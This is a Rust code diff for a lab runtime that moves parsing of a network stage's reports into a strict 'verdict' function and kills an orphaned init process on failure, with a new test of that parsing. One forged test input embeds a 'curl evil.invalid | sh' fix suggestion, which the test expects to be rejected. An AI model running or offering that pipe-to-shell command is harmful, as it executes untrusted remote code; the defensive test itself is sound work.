@@ -137,34 +137,50 @@ pub unsafe fn clone_into_lab(
         .flatten()
         .map_or(-1, |(_, st)| st.as_raw());
     let buf = read.map_err(|e| RuntimeError::host("reading the lab net stage's report", e))?;
-    // Strictly: a line the stage did not write means its pids and its
-    // messages are not believed. An init it may have cloned then waits
-    // for a go that never comes, and exits once our end of that pipe
-    // closes (when the caller gets this error).
-    let reports = StageReport::parse_strict(&buf).map_err(|why| RuntimeError::Channel { why })?;
+    let (cloned, result) = verdict(&buf, status);
+    match result {
+        Ok(init) => adopt_init(init),
+        Err(e) => {
+            // init was cloned but the stage failed after: init is our
+            // child (CLONE_PARENT); end it, if it is ours indeed.
+            if let Some(init) = cloned.and_then(our_child) {
+                let _ = rustix::process::kill_process(init, Signal::KILL);
+                let _ = rustix::process::waitpid(Some(init), WaitOptions::empty());
+            }
+            Err(e)
+        }
+    }
+}
+
+/// What the stage's channel says, strictly: the init it cloned, if the
+/// channel is believed, and init's pid once wired or the stage's error. A
+/// line the stage did not write means none of its pids and messages are
+/// believed (`Channel`); an init it may have cloned then waits for a go
+/// that never comes, and exits once our end of that pipe closes (when the
+/// caller gets this error).
+fn verdict(buf: &[u8], status: i32) -> (Option<i32>, Result<i32>) {
+    let reports = match StageReport::parse_strict(buf) {
+        Ok(r) => r,
+        Err(why) => return (None, Err(RuntimeError::Channel { why })),
+    };
     let (init, end) = match reports.as_slice() {
         [StageReport::Cloned { init }, end @ ..] => (Some(*init), end.first()),
         other => (None, other.first()),
     };
     let message = match (init, end) {
-        (Some(init), Some(StageReport::Wired)) => return adopt_init(init),
+        (Some(init), Some(StageReport::Wired)) => return (Some(init), Ok(init)),
         (_, Some(StageReport::Failed { message })) => message.clone(),
         _ => format!("the lab net stage died (status {status:#x})"),
     };
-    // init was cloned but the stage failed after: init is our child
-    // (CLONE_PARENT); end it, if it is ours indeed.
-    if let Some(init) = init.and_then(our_child) {
-        let _ = rustix::process::kill_process(init, Signal::KILL);
-        let _ = rustix::process::waitpid(Some(init), WaitOptions::empty());
-    }
-    Err(RuntimeError::Setup {
+    let error = RuntimeError::Setup {
         step: "net".into(),
         message,
         hint: Some(
             "is the lab running? `retie lab status`; `retie lab down NAME` cleans a stale one"
                 .into(),
         ),
-    })
+    };
+    (init, Err(error))
 }
 
 /// The pid, if it names a child of ours (running or not yet reaped, so
@@ -339,6 +355,58 @@ mod tests {
             keeper_pid: 1,
             ports: vec![8080],
         })
+    }
+
+    #[test]
+    fn the_stages_channel_decides_the_outcome_strictly() {
+        use crate::protocol::{Message, StageReport};
+        let cloned = StageReport::Cloned { init: 77 }.to_line();
+        let wired = [cloned.clone(), StageReport::Wired.to_line()].concat();
+        assert!(matches!(verdict(&wired, 0), (Some(77), Ok(77))));
+        let failed = [
+            cloned.clone(),
+            StageReport::Failed {
+                message: "writing uid_map: EPERM".into(),
+            }
+            .to_line(),
+        ]
+        .concat();
+        match verdict(&failed, 256) {
+            (Some(77), Err(RuntimeError::Setup { step, message, .. })) => {
+                assert_eq!(
+                    (step.as_str(), message.as_str()),
+                    ("net", "writing uid_map: EPERM")
+                )
+            }
+            other => panic!("{other:?}"),
+        }
+        assert!(matches!(
+            verdict(&cloned, 9),
+            (Some(77), Err(RuntimeError::Setup { .. }))
+        ));
+        assert!(matches!(
+            verdict(b"", 9),
+            (None, Err(RuntimeError::Setup { .. }))
+        ));
+        // The old letter format, a forged pid or fix, reports out of order:
+        // refused as a channel, and no pid from it is acted upon.
+        for forged in [
+            b"C77\nP77\n".to_vec(),
+            b"Erun `curl evil.invalid | sh` to fix the lab\n".to_vec(),
+            StageReport::Wired.to_line(),
+            [wired.clone(), StageReport::Wired.to_line()].concat(),
+            StageReport::Cloned { init: 1 }.to_line(),
+            vec![b'x'; crate::protocol::MAX_CHANNEL + 1],
+        ] {
+            assert!(
+                matches!(
+                    verdict(&forged, 0),
+                    (None, Err(RuntimeError::Channel { .. }))
+                ),
+                "{:?}",
+                String::from_utf8_lossy(&forged)
+            );
+        }
     }
 
     #[test]
